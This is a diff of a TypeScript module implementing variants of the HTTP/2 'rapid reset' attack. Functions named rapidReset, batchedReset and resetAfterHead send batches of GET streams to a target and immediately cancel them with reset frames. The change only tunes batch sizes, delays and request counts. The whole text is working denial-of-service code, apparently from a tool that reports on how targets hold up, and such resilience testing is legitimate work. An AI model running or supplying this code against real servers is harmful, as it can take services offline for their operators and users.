@@ -10,15 +10,15 @@ export function rapidReset(target: AttackTarget): Promise<AttackReport> {
   );
 }
 
-/** The same, a hundred requests first and then their cancellations, so that all of them have begun upstream. */
+/** The same, fifty requests first and then their cancellations, so that all of them have begun upstream. */
 export function batchedReset(target: AttackTarget): Promise<AttackReport> {
   return again(target, {}, async (peer, _tally, isTimeUp) => {
     for (let batch = 0; !peer.isOver && !isTimeUp(); batch++) {
-      const ids = Array.from({ length: 100 }, (_, i) => (batch * 100 + i) * 2 + 1);
-      peer.send(Buffer.concat(ids.map((id) => get(id, "/never"))), 100);
+      const ids = Array.from({ length: 50 }, (_, i) => (batch * 50 + i) * 2 + 1);
+      peer.send(Buffer.concat(ids.map((id) => get(id, "/never"))), 50);
       await peer.drained();
-      await new Promise((resolve) => setTimeout(resolve, 2));
-      peer.send(Buffer.concat(ids.map((id) => reset(id))), 100);
+      await new Promise((resolve) => setTimeout(resolve, 10));
+      peer.send(Buffer.concat(ids.map((id) => reset(id))), 50);
       await peer.drained();
     }
   });
@@ -39,7 +39,7 @@ export function resetAfterHead(target: AttackTarget): Promise<AttackReport> {
       peer.send(reset(id));
       ask(1);
     };
-    ask(50);
+    ask(10);
     await peer.over(target.ms);
     peer.destroy();
   });
